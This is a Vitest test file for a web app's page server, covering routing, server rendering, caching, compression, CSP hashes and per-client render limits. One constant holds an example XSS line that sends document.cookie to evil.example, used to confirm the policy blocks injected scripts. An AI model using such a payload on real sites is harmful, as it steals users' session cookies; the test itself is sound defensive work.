import { mkdtemp, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { createHash } from 'node:crypto';
import { brotliDecompressSync, gunzipSync } from 'node:zlib';
import { beforeEach, describe, expect, it } from 'vitest';
import { invalidateContent } from '#server/db/content-generation';
import { ACCESS_COOKIE } from '#server/http/session';
import { testDatabaseKind } from '../support/test-database';
import { useTestApp } from '../support/test-app';

/** 404 and the app for a path or content item that does not exist; 200 for every page. */
const SHELL = '<!doctype html><div id="root"></div>';
const CARD_UUID = '7d3c31f0-3ce8-4ae4-9b0d-eab9a0e49044';
const MISSING_UUID = '00000000-0000-4000-8000-000000000000';

const t = useTestApp(async () => {
  const staticDir = await mkdtemp(path.join(tmpdir(), 'gr-pages-'));
  await writeFile(path.join(staticDir, 'index.html'), SHELL);
  return { serveApp: true, config: { staticDir } };
});

const pages: [string, 200 | 404][] = [
  ['/', 200],
  ['/promos', 200],
  ['/Promos/', 200],
  ['/partners', 200],
  ['/cards', 200],
  ['/stories', 200],
  ['/shop-online', 200],
  ['/new-this-month', 200],
  ['/terms', 200],
  ['/privacy-policy', 200],
  ['/about', 200],
  ['/login?page=%2Faccount', 200],
  ['/forgot-passcode', 200],
  ['/get-the-app', 200],
  // A bare /logout is the server's to decide; its confirmation page is the app.
  ['/logout?confirm=1', 200],
  ['/account', 200],
  ['/account/transactions', 200],
  ['/no-such/page-here', 404],
  ['/promos/double-points-weekend/more', 404],
  ['/account/nothing-here', 404],
  ['/wp-login.php', 404],
  // The statechart viewer is development-only, and the server serves only production builds.
  ['/dev/statecharts', 404],
  ['/promos/double-points-weekend', 200],
  ['/promos/no-such-promo', 404],
  [
    '/new-this-month/perlas-department-store-go-rewards-exclusive-members-only-sneaker-pre-sale',
    200,
  ],
  ['/new-this-month/noche-buena-ham-pre-order', 200],
  ['/new-this-month/no-such-offer', 404],
  ['/shop-online/tibay-hardware-air-purifiers-and-fans', 200],
  ['/shop-online/no-such-shop', 404],
  ['/partners/bayanihan-mart', 200],
  ['/partners/no-such-partner', 404],
  ['/cards/prepaid-card', 200],
  ['/cards/no-such-card', 404],
  ['/cards/prepaid-card/partners', 200],
  ['/cards/prepaid-card/partners/distribution', 200],
  ['/cards/prepaid-card/partners/loading', 200],
  ['/cards/prepaid-card/partners/loading/padala-express', 200],
  ['/cards/prepaid-card/partners/loading/no-such-partner', 404],
  ['/cards/no-such-card/partners/loading/padala-express', 404],
  // Cards of type 3 and 4 have no partner pages (docs/specification.md#card-partners).
  ['/cards/bayanihan-bank-debit-card', 200],
  ['/cards/bayanihan-bank-debit-card/partners/distribution', 404],
  ['/stories/budget-noche-buena-with-points', 200],
  ['/stories/no-such-story', 404],
  [`/terms/${CARD_UUID}`, 200],
  [`/terms/${MISSING_UUID}`, 404],
  [`/privacy-policy/${CARD_UUID}`, 200],
  [`/privacy-policy/${MISSING_UUID}`, 404],
  [`/termswb/${CARD_UUID}`, 200],
  ['/termswb/not-a-uuid', 404],
  [`/policywb/${CARD_UUID}`, 200],
  [`/policywb/${MISSING_UUID}`, 404],
  ['/raffle/holiday-raffle-2026', 200],
  ['/raffle/no-such-raffle', 404],
  ['/survey/GRSURVEY2026', 200],
  ['/survey/NOSUCHSURVEY', 404],
];

describe(`the app's pages and the paths no page has (${testDatabaseKind})`, () => {
  it.each(pages)('GET %s answers %i with the app', async (url, status) => {
    const response = await t.app.inject({ url });
    expect(response.statusCode).toBe(status);
    expect(response.headers['content-type']).toMatch(/^text\/html/);
    expect(response.headers['cache-control']).toBe('no-cache');
    expect(response.body).toBe(SHELL);
  });

  it('answers HEAD as GET, keeps /auth a redirect and unknown api paths JSON', async () => {
    expect((await t.app.inject({ method: 'HEAD', url: '/no-such-page' })).statusCode).toBe(404);
    expect((await t.app.inject({ method: 'HEAD', url: '/promos' })).statusCode).toBe(200);
    const handoff = await t.app.inject({ url: '/auth?token=nope' });
    expect(handoff.statusCode).toBe(302);
    const api = await t.app.inject({ url: '/api/v1/no-such-call' });
    expect(api.statusCode).toBe(404);
    expect(api.json()).toMatchObject({ error_key: 'NOT_FOUND' });
  });
});

/** What the renderer marks its own scripts with; taken off before the page is sent. */
const MARKER = 'marker-of-the-renderers-scripts';
const ROUTER_STATE_SCRIPT = `<script nonce="${MARKER}">window.$_TSR={"state":1}</script>`;
const INJECTED = 'fetch("https://evil.example/?" + document.cookie)';
const sha256 = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;
const RENDERED_BODY = `<main><h1>Promos</h1></main>${ROUTER_STATE_SCRIPT}`;
const SENT_BODY = '<main><h1>Promos</h1></main><script>window.$_TSR={"state":1}</script>';
const MEMBER_SESSION = {
  member: { firstName: 'Maria Clara', lastName: 'Santos', points: 1200, deletionDueAt: null },
  expiresInSeconds: 3500,
};
/** Each render the server asked for: the path, and whether the request carried a session. */
const renders: string[] = [];

/** As the real routes' key: a list page reads `page` (and its other list parameters), nothing else. */
const pageKey = (href: string) => {
  const [pathname = '/', query = ''] = href.split('?');
  const read = query.split('&').filter((part) => part.startsWith('page='));
  return read.length > 0 ? `${pathname}?${read.join('&')}` : pathname;
};

const rendering = useTestApp(async () => {
  const staticDir = await mkdtemp(path.join(tmpdir(), 'gr-pages-'));
  await writeFile(path.join(staticDir, 'index.html'), SHELL);
  return {
    serveApp: true,
    config: { staticDir, serverRendering: true },
    pageKey,
    // Renders /promos; any other page is a bug in the renderer.
    pageRenderer: ({ href, signedIn }) => {
      renders.push(`${href} ${signedIn ? 'member' : 'visitor'}`);
      // A page whose CMS text carried a script past every other defence: it must not run.
      if (href === '/stories')
        return Promise.resolve({
          kind: 'page',
          status: 200,
          head: '<title>Stories</title>',
          body: `<main><h1>Stories</h1><script>${INJECTED}</script></main>${ROUTER_STATE_SCRIPT}`,
          session: null,
          scriptMarker: MARKER,
        });
      // A page whose loader failed (the database was down): the renderer says so with a 5xx.
      if (href === '/partners')
        return Promise.resolve({
          kind: 'page',
          status: 503,
          head: '<title>Error</title>',
          body: `<main><p>We're having trouble right now. Please try again in a few minutes.</p></main>`,
          session: null,
          scriptMarker: MARKER,
        });
      return href === '/promos' || href.startsWith('/promos?')
        ? Promise.resolve({
            kind: 'page',
            status: 200,
            head: '<title>Promos</title>',
            body: RENDERED_BODY,
            session: signedIn ? MEMBER_SESSION : null,
            scriptMarker: MARKER,
          })
        : Promise.reject(new Error(`no render for ${href}`));
    },
  };
});

const asMember = { cookies: { [ACCESS_COOKIE]: 'a-session-cookie' } };

describe(`a page from the renderer (${testDatabaseKind})`, () => {
  beforeEach(() => {
    renders.length = 0;
    // Another minute each time: nothing kept by an earlier test is still fresh.
    rendering.now.value = new Date(rendering.now.value.getTime() + 61_000);
  });

  it('comes rendered into the shell for a visitor, its inline script allowed by its hash', async () => {
    const response = await rendering.app.inject({ url: '/promos' });
    expect(response.statusCode).toBe(200);
    expect(response.body).toContain(`<div id="root" data-rendered="visitor">${SENT_BODY}</div>`);
    const hash = createHash('sha256').update('window.$_TSR={"state":1}').digest('base64');
    const scriptSrc = /(?:^|;)\s*script-src ([^;]*)/.exec(
      String(response.headers['content-security-policy']),
    )?.[1];
    expect(scriptSrc).toBe(`'self' 'sha256-${hash}'`);
  });

  it('goes out compressed as the browser accepts it, the same page in each encoding', async () => {
    const plain = await rendering.app.inject({ url: '/promos' });
    expect(plain.headers['content-encoding']).toBeUndefined();
    const br = await rendering.app.inject({
      url: '/promos',
      headers: { 'accept-encoding': 'gzip, deflate, br' },
    });
    expect(br.headers['content-encoding']).toBe('br');
    expect(brotliDecompressSync(br.rawPayload).toString()).toBe(plain.body);
    const gzip = await rendering.app.inject({
      url: '/promos',
      headers: { 'accept-encoding': 'gzip' },
      ...asMember,
    });
    expect(gzip.headers['content-encoding']).toBe('gzip');
    expect(gunzipSync(gzip.rawPayload).toString()).toContain(SENT_BODY);
    expect(String(br.headers.vary)).toMatch(/accept-encoding/i);
  });

  it('is kept a minute for visitors, here and by a CDN, per content generation', async () => {
    const first = await rendering.app.inject({ url: '/promos' });
    expect(first.headers['cache-control']).toBe(
      'public, max-age=0, s-maxage=60, stale-while-revalidate=60',
    );
    expect(first.headers.vary).toMatch(/cookie/i);
    rendering.now.value = new Date(rendering.now.value.getTime() + 59_000);
    const second = await rendering.app.inject({ url: '/promos' });
    expect(second.body).toBe(first.body);
    expect(second.headers['content-security-policy']).toBe(
      first.headers['content-security-policy'],
    );
    expect(renders).toEqual(['/promos visitor']);

    rendering.now.value = new Date(rendering.now.value.getTime() + 2_000);
    await rendering.app.inject({ url: '/promos' });
    expect(renders).toEqual(['/promos visitor', '/promos visitor']);

    // An edit of the content in this process drops it at once.
    invalidateContent();
    await rendering.app.inject({ url: '/promos' });
    expect(renders).toHaveLength(3);
  });

  it("is a signed-in member's own: rendered each time, stored by no cache", async () => {
    await rendering.app.inject({ url: '/promos' });
    for (let visit = 0; visit < 2; visit += 1) {
      const response = await rendering.app.inject({ url: '/promos', ...asMember });
      expect(response.statusCode).toBe(200);
      expect(response.headers['cache-control']).toBe('private, no-store');
      expect(response.body).toContain('<div id="root" data-rendered="member" data-session="');
    }
    expect(renders).toEqual(['/promos visitor', '/promos member', '/promos member']);
    // The visitor's page kept meanwhile is still the visitor's.
    const visitor = await rendering.app.inject({ url: '/promos' });
    expect(visitor.body).toContain('data-rendered="visitor"');
    expect(renders).toHaveLength(3);
  });

  it("allows by hash only the scripts the renderer wrote, never one that came in the page's content", async () => {
    const response = await rendering.app.inject({ url: '/stories' });
    expect(response.statusCode).toBe(200);
    const policy = String(response.headers['content-security-policy']);
    expect(policy).toContain(sha256('window.$_TSR={"state":1}'));
    expect(policy).not.toContain(sha256(INJECTED));
  });

  it('is never kept when a loader failed: answered 5xx, no-store, rendered again next time', async () => {
    for (let visit = 0; visit < 2; visit += 1) {
      const response = await rendering.app.inject({ url: '/partners' });
      expect(response.statusCode).toBe(503);
      expect(response.headers['cache-control']).toBe('no-store');
      expect(response.body).toContain("We're having trouble right now.");
    }
    expect(renders).toEqual(['/partners visitor', '/partners visitor']);
  });

  it('keeps one copy for every value of a parameter the page does not read, rendered without it', async () => {
    const first = await rendering.app.inject({ url: '/promos?cb=1' });
    const busted = await rendering.app.inject({ url: '/promos?cb=2&utm_source=x' });
    const plain = await rendering.app.inject({ url: '/promos' });
    expect(renders).toEqual(['/promos visitor']);
    expect(busted.body).toBe(first.body);
    expect(plain.body).toBe(first.body);
    // A parameter the page reads is its own page.
    await rendering.app.inject({ url: '/promos?cb=3&page=2' });
    await rendering.app.inject({ url: '/promos?page=2&cb=4' });
    expect(renders).toEqual(['/promos visitor', '/promos?page=2 visitor']);
  });

  it('is the app shell when rendering fails, never an error page', async () => {
    const response = await rendering.app.inject({ url: '/cards' });
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toMatch(/^text\/html/);
    expect(response.body).toBe(SHELL);
    expect(rendering.logs.join('')).toContain('page render failed');
  });
});

/** A small budget for the test: 6 uncached renders a minute per client. */
const RENDERS_PER_MINUTE = 6;
const budgeted = useTestApp(async () => {
  const staticDir = await mkdtemp(path.join(tmpdir(), 'gr-pages-'));
  await writeFile(path.join(staticDir, 'index.html'), SHELL);
  return {
    serveApp: true,
    config: { staticDir, serverRendering: true, rendersPerMinute: RENDERS_PER_MINUTE },
    pageKey,
    pageRenderer: ({ href }) =>
      Promise.resolve({
        kind: 'page',
        status: 200,
        head: '<title>Promos</title>',
        body: `<main><h1>Promos</h1><p>${href.replace(/[<>&]/g, '')}</p></main>`,
        session: null,
        scriptMarker: MARKER,
      }),
  };
});

describe(`a client's budget of uncached renders (${testDatabaseKind})`, () => {
  const visit = (url: string, remoteAddress: string) =>
    budgeted.app.inject({ url, remoteAddress, ...asMember });

  it('answers renders past the budget 429 with Retry-After and no page; kept pages and other clients go on', async () => {
    const client = '10.90.0.1';
    // A visitor's page, kept: asking for it again renders nothing.
    const kept = await budgeted.app.inject({ url: '/promos?page=9', remoteAddress: client });
    expect(kept.statusCode).toBe(200);
    for (let page = 1; page < RENDERS_PER_MINUTE; page += 1) {
      expect((await visit(`/promos?page=${String(page)}`, client)).statusCode).toBe(200);
    }
    const refused = await visit('/promos?page=7', client);
    expect(refused.statusCode).toBe(429);
    expect(refused.headers['retry-after']).toBe('10');
    expect(refused.headers['cache-control']).toBe('no-store');
    expect(refused.body).toContain('Too many requests. Please try again in 10 seconds.');
    expect(refused.body).not.toContain('<h1>Promos</h1>');

    const again = await budgeted.app.inject({ url: '/promos?page=9', remoteAddress: client });
    expect(again.statusCode).toBe(200);
    expect(again.body).toBe(kept.body);
    expect((await visit('/promos?page=7', '10.90.0.2')).statusCode).toBe(200);

    budgeted.now.value = new Date(budgeted.now.value.getTime() + 10_000);
    expect((await visit('/promos?page=7', client)).statusCode).toBe(200);
    expect((await visit('/promos?page=8', client)).statusCode).toBe(429);
  });

  it('counts an IPv6 client by its /64', async () => {
    for (let page = 1; page <= RENDERS_PER_MINUTE; page += 1) {
      const address = `2001:db8:5:6::${String(page)}`;
      expect((await visit(`/promos?page=${String(page)}`, address)).statusCode).toBe(200);
    }
    expect((await visit('/promos?page=7', '2001:db8:5:6:ffff::1')).statusCode).toBe(429);
    expect((await visit('/promos?page=7', '2001:db8:5:7::1')).statusCode).toBe(200);
  });
});
